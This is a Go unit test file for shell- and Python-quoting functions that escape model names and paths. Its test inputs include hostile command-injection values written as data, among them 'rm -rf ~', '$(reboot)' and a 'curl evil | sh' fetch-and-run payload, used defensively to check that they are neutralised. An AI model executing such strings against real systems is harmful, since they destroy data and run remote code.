package quote

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestShellQuote(t *testing.T) {
	for in, want := range map[string]string{
		"Qwen/Qwen2.5-7B-Instruct":   "Qwen/Qwen2.5-7B-Instruct",
		"models/llama 2.gguf":        "'models/llama 2.gguf'",
		"":                           "''",
		"x; rm -rf ~":                "'x; rm -rf ~'",
		"$(reboot)":                  "'$(reboot)'",
		"`id`":                       "'`id`'",
		"it's":                       `'it'\''s'`,
		"a'; curl evil | sh; echo '": `'a'\''; curl evil | sh; echo '\'''`,
		"~root":                      "'~root'",
		"--trust-remote-code":        "./--trust-remote-code",
		"-x; id":                     "'./-x; id'",
		"a\nb":                       "ab",
		"a\x1b[2Jb":                  "'a[2Jb'",
		"gpj.\u202etxt":              "gpj.txt",
		`C:\models\a`:                `'C:\models\a'`,
		"!!":                         "'!!'",
		"модель":                     "'модель'",
		"\x01VLLM_API_KEY":           `"$VLLM_API_KEY"`, // in place of a key of the log
	} {
		assert.Equal(t, want, Shell(in), "%q", in)
	}
}

func TestPyQuote(t *testing.T) {
	for in, want := range map[string]string{
		"Qwen/Qwen2.5-7B": `"Qwen/Qwen2.5-7B"`,
		`a"); import os`:  `"a\"); import os"`,
		`C:\models\new`:   `"C:\\models\\new"`,
		"a\nb\x00":        `"ab"`,
		"it's {x}":        `"it's {x}"`,
	} {
		assert.Equal(t, want, Python(in), "%q", in)
	}
}

func TestPIDText(t *testing.T) {
	for in, want := range map[int]string{4242: "4242", 1: "PID", 0: "PID", -1: "PID"} {
		assert.Equal(t, want, PID(in))
	}
}
